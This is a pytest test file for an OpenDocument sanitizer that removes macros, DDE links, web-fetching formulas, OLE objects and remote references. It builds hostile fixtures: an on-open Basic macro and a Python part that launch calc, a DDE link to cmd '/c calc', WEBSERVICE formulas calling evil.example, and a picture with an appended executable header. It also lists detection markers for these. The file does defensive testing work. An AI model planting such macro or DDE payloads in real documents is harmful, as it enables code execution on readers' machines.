"""OpenDocument sanitizer: the contract, plus what exactly is removed and what stays.

Every fixture is built here: an ODT with a Basic macro bound to the document's open event,
an ODS with linked sheets, DDE and fetching formulas, an ODP with an embedded object and a
run-program action, linked pictures, a remote template, a picture with data appended."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Sequence

import pytest
from lxml import etree
from PIL import Image

from sanitizers.cdr.odf_package import formula_danger
from sanitizers.cdr.odf_verify import find_dangerous
from sanitizers.cdr.ooxml_package import parse_xml
from sanitizers.links import DEFAULT_ALLOWED_SCHEMES
from sanitizers.vocabulary import Action, Reason, RemovedItem
from tests.sanitizers.cdr.contract import Case, CdrContract

BENIGN = "議事録の本文です"
NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"'
)
TYPES = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
}
MACRO_URL = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
OLE_BYTES = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


def png(appended: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, "PNG")
    return out.getvalue() + appended


def odf(
    flavor: str,
    body: str,
    *,
    head: str = "",
    parts: dict[str, bytes] | None = None,
    meta: str = "",
) -> bytes:
    """An OpenDocument package: ``head`` goes before ``office:body`` (scripts, declarations),
    ``body`` inside the flavour's body element; ``parts`` are added and listed."""
    element = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}[flavor]
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {NS} '
        f'office:version="1.3">{head}<office:body><office:{element}>{body}'
        f"</office:{element}></office:body></office:document-content>"
    )
    extra = dict(parts or {})
    if meta:
        extra["meta.xml"] = (
            f'<?xml version="1.0"?><office:document-meta {NS} office:version="1.3">'
            f"<office:meta>{meta}</office:meta></office:document-meta>"
        ).encode()
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="'
        f'{"image/png" if name.endswith(".png") else "text/xml"}"/>'
        for name in ["content.xml", *extra]
    )
    manifest = (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        'opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry '
        f'manifest:full-path="/" manifest:version="1.3" manifest:media-type="{TYPES[flavor]}"/>'
        f"{entries}</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), TYPES[flavor])
        archive.writestr("META-INF/manifest.xml", manifest)
        archive.writestr("content.xml", content)
        for name, data in extra.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odt_macro_on_open() -> bytes:
    head = (
        "<office:scripts><office:event-listeners>"
        f'<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        f'xlink:href="{MACRO_URL}"/></office:event-listeners></office:scripts>'
    )
    module = (
        b'<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script"'
        b' script:name="Module1" script:language="StarBasic">Sub Main\nShell("calc.exe")\n'
        b"End Sub</script:module>"
    )
    return odf(
        "odt",
        f"<text:p>{BENIGN}</text:p>"
        f'<text:p><text:a xlink:href="{MACRO_URL}">押してください</text:a></text:p>'
        '<text:p><text:execute-macro text:name="Main">実行</text:execute-macro></text:p>'
        '<text:p><text:script script:language="JavaScript">app.run()</text:script></text:p>',
        head=head,
        parts={
            "Basic/script-lc.xml": b"<library:libraries/>",
            "Basic/Standard/Module1.xml": module,
            "Scripts/python/evil.py": b"import os; os.system('calc')",
        },
    )


def ods_external_links() -> bytes:
    return odf(
        "ods",
        '<table:table table:name="Sheet1">'
        '<table:table-source xlink:href="file:///C:/secret/book.ods" table:table-name="S"/>'
        "<table:table-row>"
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)" '
        'office:value-type="string"><text:p>取得結果</text:p></table:table-cell>'
        "<table:table-cell table:formula=\"of:=['file:///C:/x.ods'#$Sheet1.A1]\" "
        'office:value-type="float" office:value="42"><text:p>42</text:p></table:table-cell>'
        "<table:table-cell "
        'table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;A1&quot;)"'
        ' office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
        '<table:table-cell table:formula="of:=SUM([.A1:.B1])" office:value-type="float" '
        f'office:value="43"><text:p>{BENIGN}</text:p></table:table-cell>'
        "</table:table-row></table:table>",
        head='<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd"'
        ' office:dde-topic="/c calc" office:dde-item="A0"/></table:dde-link></table:dde-links>',
    )


def odp_object_and_program() -> bytes:
    return odf(
        "odp",
        '<draw:page draw:name="p1"><draw:frame><draw:object xlink:href="./Object 1"/>'
        '<draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame>'
        '<draw:frame><draw:object-ole xlink:href="./Object 2"/></draw:frame>'
        f"<draw:frame><draw:text-box><text:p>{BENIGN}</text:p></draw:text-box>"
        '<office:event-listeners><presentation:event-listener script:event-name="dom:click"'
        ' presentation:action="execute" xlink:href="C:/Windows/System32/calc.exe"/>'
        "</office:event-listeners></draw:frame></draw:page>",
        parts={
            "Object 1/content.xml": b"<office:document-content/>",
            "ObjectReplacements/Object 1": b"VCLMTF" + bytes(40),
            "Object 2": OLE_BYTES,
        },
    )


def odt_linked_image_and_template() -> bytes:
    return odf(
        "odt",
        f"<text:p>{BENIGN}</text:p>"
        '<text:p><draw:frame><draw:image xlink:href="http://evil.example/track.png"/>'
        "</draw:frame></text:p>"
        '<text:p><text:a xlink:href="https://example.jp/">リンク文字</text:a></text:p>'
        '<text:section text:name="s"><text:section-source xlink:href="\\\\host\\share\\x.odt"/>'
        "</text:section>",
        meta='<meta:template xlink:href="http://evil.example/t.ott" xlink:type="simple"/>'
        '<meta:auto-reload xlink:href="http://evil.example/again.odt"/>',
    )


def odt_hostile_picture() -> bytes:
    return odf(
        "odt",
        f'<text:p>{BENIGN}<draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame>'
        '<draw:frame><draw:image xlink:href="Pictures/b.png"/></draw:frame></text:p>',
        parts={"Pictures/a.png": png(b"MZ\x90\x00 appended program"), "Pictures/b.png": b"MZ"},
    )


def clean_odt() -> bytes:
    return odf(
        "odt",
        f'<text:p>{BENIGN}<text:a xlink:href="#目次">目次へ</text:a></text:p>'
        '<text:p><draw:frame><draw:image xlink:href="Pictures/p.png"/></draw:frame></text:p>',
        parts={"Pictures/p.png": png(), "styles.xml": b"<office:document-styles " + NS.encode()
               + b"/>"},
    )  # fmt: skip


def clean_ods() -> bytes:
    return odf(
        "ods",
        '<table:table table:name="集計"><table:table-row>'
        '<table:table-cell table:formula="of:=SUM([.B1:.C1])" office:value-type="float" '
        f'office:value="3"><text:p>{BENIGN}</text:p></table:table-cell>'
        '<table:table-cell table:formula="of:=HYPERLINK(&quot;https://example.jp/&quot;)" '
        'office:value-type="string"><text:p>site</text:p></table:table-cell>'
        "</table:table-row></table:table>",
    )


def content_of(data: bytes) -> etree._Element:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return parse_xml(archive.read("content.xml"), "content.xml")


def independent_markers(data: bytes) -> set[str]:
    """A look that shares nothing with the sanitizer: names and raw bytes."""
    found: set[str] = set()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith(("Basic/", "Scripts/", "Object", "Dialogs/")):
                found.add("part:" + name)
            raw = archive.read(name)
            for marker in (
                rb"vnd\.sun\.star\.script",
                rb"event-listener",
                rb"dde-source",
                rb"WEBSERVICE",
                rb"https?://evil",
                rb"execute-macro",
                rb"\bMZ",
            ):
                if re.search(marker, raw):
                    found.add(marker.decode())
    return found  # fmt: skip


class TestOdfContract(CdrContract):
    kind = "odf"
    keep_if_clean_rebuilds = True

    def hostile_cases(self) -> Sequence[Case]:
        return [
            Case(
                "odt-macro-on-open",
                odt_macro_on_open(),
                "議事録.odt",
                frozenset({"document_macro", "event_handler"}),
                reason=Reason.MACRO,
                text=(BENIGN, "押してください", "実行"),
            ),
            Case(
                "ods-external-links",
                ods_external_links(),
                "集計.ods",
                frozenset({"external_link", "formula_function", "dde"}),
                reason=Reason.ACTIVE_CONTENT,
                text=(BENIGN, "取得結果", "42"),
            ),
            Case(
                "odp-object-program",
                odp_object_and_program(),
                "説明.odp",
                frozenset({"embedded_package", "ole_object", "event_handler"}),
                reason=Reason.ACTIVE_CONTENT,
                text=(BENIGN,),
            ),
            Case(
                "odt-linked-image-template",
                odt_linked_image_and_template(),
                "案内.odt",
                frozenset(
                    {"external_relationship", "remote_template", "hyperlink", "external_link"}
                ),
                reason=Reason.EXTERNAL_REFERENCE,
                text=(BENIGN, "リンク文字"),
            ),
            Case(
                "odt-hostile-picture",
                odt_hostile_picture(),
                "写真.odt",
                frozenset({"trailing_data", "unknown_part"}),
                text=(BENIGN,),
            ),
        ]

    def clean_cases(self) -> Sequence[Case]:
        return [
            Case("odt", clean_odt(), "clean.odt", text=(BENIGN, "目次へ"), detectable=False),
            Case("ods", clean_ods(), "clean.ods", text=(BENIGN,), detectable=False),
        ]

    def dangerous_items(self, data: bytes) -> set[str]:
        return find_dangerous(data) | independent_markers(data)

    def assert_parses(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert archive.infolist()[0].filename == "mimetype"
            for name in archive.namelist():
                if name.endswith(".xml"):
                    parse_xml(archive.read(name), name)

    def extract_text(self, data: bytes) -> str:
        return "".join(content_of(data).itertext())


def run(data: bytes, name: str = "a.odt") -> object:
    return TestOdfContract().run(data, name)


def test_the_macro_library_and_its_binding_are_gone_and_the_manifest_agrees() -> None:
    outcome = TestOdfContract().run(odt_macro_on_open(), "議事録.odt")
    assert outcome.action == Action.SANITIZED
    assert outcome.data is not None
    assert outcome.filename == "議事録.odt"
    assert outcome.content_type == TYPES["odt"]
    with zipfile.ZipFile(io.BytesIO(outcome.data)) as archive:
        names = archive.namelist()
        manifest = archive.read("META-INF/manifest.xml")
    assert names[0] == "mimetype"
    assert not [n for n in names if n.startswith(("Basic/", "Scripts/"))]
    assert b"Basic/" not in manifest
    assert b"content.xml" in manifest
    assert b"office:scripts" not in outcome.data


def test_a_picture_is_reencoded_and_a_fake_one_dropped_with_its_frame_image() -> None:
    outcome = TestOdfContract().run(odt_hostile_picture(), "写真.odt")
    assert outcome.data is not None
    with zipfile.ZipFile(io.BytesIO(outcome.data)) as archive:
        picture = archive.read("Pictures/a.png")
        assert "Pictures/b.png" not in archive.namelist()
    assert picture.startswith(b"\x89PNG")
    assert b"MZ" not in picture
    hrefs = [v for v in content_of(outcome.data).iter() if v.get(f"{{{XLINK}}}href")]
    assert [h.get(f"{{{XLINK}}}href") for h in hrefs] == ["Pictures/a.png"]


XLINK = "http://www.w3.org/1999/xlink"


def test_cached_values_stay_when_formulas_go() -> None:
    outcome = TestOdfContract().run(ods_external_links(), "集計.ods")
    assert outcome.data is not None
    cells = list(content_of(outcome.data).iter("{*}table-cell"))
    formulas = [c.get("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula") for c in cells]
    assert formulas == [None, None, None, "of:=SUM([.A1:.B1])"]
    assert cells[1].get("{urn:oasis:names:tc:opendocument:xmlns:office:1.0}value") == "42"


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ('of:=WEBSERVICE("http://x/")', "formula_function"),
        ('of:=COM.MICROSOFT.WEBSERVICE("http://x/")', "formula_function"),
        ('of:=DDE("soffice";"c:\\x.ods";"A1")', "dde"),
        ("of:=['file:///C:/x.ods'#$Sheet1.A1]", "external_link"),
        ('of:=HYPERLINK("file:///C:/Windows/calc.exe")', "unsafe_link"),
        ('of:=SUM([.A1:.A3])&"WEBSERVICE("', None),
        ('of:=HYPERLINK("https://example.jp/")', None),
    ],
)
def test_formula_danger(formula: str, code: str | None) -> None:
    assert formula_danger(formula, DEFAULT_ALLOWED_SCHEMES) == code


def rewritten(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """``data`` with ``old`` replaced by ``new`` in the entry ``name`` (a valid zip again)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as out:
        for info in source.infolist():
            content = source.read(info)
            out.writestr(info, content.replace(old, new) if info.filename == name else content)
    return buffer.getvalue()


def test_encrypted_package_is_removed() -> None:
    data = rewritten(
        clean_odt(),
        "META-INF/manifest.xml",
        b'manifest:full-path="content.xml" manifest:media-type="text/xml"/>',
        b'manifest:full-path="content.xml" manifest:media-type="text/xml">'
        b"<manifest:encryption-data/></manifest:file-entry>",
    )
    outcome = TestOdfContract().run(data, "secret.odt")
    assert (outcome.action, outcome.reason) == (Action.REMOVED, Reason.ENCRYPTED)


def test_a_database_document_is_not_rebuilt() -> None:
    base = b"application/vnd.oasis.opendocument.base"
    data = rewritten(clean_odt(), "mimetype", TYPES["odt"].encode(), base)
    outcome = TestOdfContract().run(data, "db.odb")
    assert (outcome.action, outcome.reason) == (Action.REMOVED, Reason.UNSUPPORTED_TYPE)


@pytest.mark.parametrize(
    "make", [odt_macro_on_open, ods_external_links, odp_object_and_program,
             odt_linked_image_and_template],
)  # fmt: skip
def test_verification_catches_each_hostile_input(make: object) -> None:
    assert find_dangerous(make())  # type: ignore[operator]


def test_a_picture_listed_without_a_media_type_is_kept() -> None:
    """OpenOffice.org wrote pictures into the manifest with media-type="": the type is then
    taken from the name, and the picture is checked and kept like any other."""
    data = rewritten(
        clean_odt(),
        "META-INF/manifest.xml",
        b'manifest:full-path="Pictures/p.png" manifest:media-type="image/png"',
        b'manifest:full-path="Pictures/p.png" manifest:media-type=""',
    )
    outcome = TestOdfContract().run(data, "old.odt")
    assert outcome.removed == ()
    assert outcome.data is not None
    with zipfile.ZipFile(io.BytesIO(outcome.data)) as archive:
        assert archive.read("Pictures/p.png").startswith(b"\x89PNG")
        assert b'media-type="image/png"' in archive.read("META-INF/manifest.xml")


@pytest.mark.parametrize(
    "where",
    [
        '<table:table-cell office:value-type="string" office:string-value="{url}"/>',
        '<table:table-cell table:content-validation-name="{url}"/>',
        '<table:table-cell><text:p><text:span text:style-name="{url}">x</text:span></text:p>'
        "</table:table-cell>",
    ],
)
@pytest.mark.parametrize(
    "url", ["vnd.sun.star.script:Standard.Module1.Main", "  MACRO:Run", "vnd.sun.star.ſcript:x"]
)
def test_a_macro_url_in_any_attribute_of_a_plain_cell_is_found(where: str, url: str) -> None:
    """The rebuild and the verification look only at candidate elements (found by libxml2,
    not walked one by one): an attribute nothing else marks still has its macro URL removed,
    whatever its case, and the verification sees one left in."""
    body = (
        f'<table:table table:name="S"><table:table-row>{where.format(url=url)}'
        f"<table:table-cell><text:p>{BENIGN}</text:p></table:table-cell>"
        "</table:table-row></table:table>"
    )
    data = odf("ods", body)
    assert RemovedItem.DOCUMENT_MACRO in find_dangerous(data)
    outcome = TestOdfContract().run(data, "a.ods")
    assert outcome.action is Action.SANITIZED
    assert RemovedItem.DOCUMENT_MACRO in outcome.removed
    assert outcome.data is not None
    assert find_dangerous(outcome.data) == set()
    assert url.strip().encode() not in outcome.data
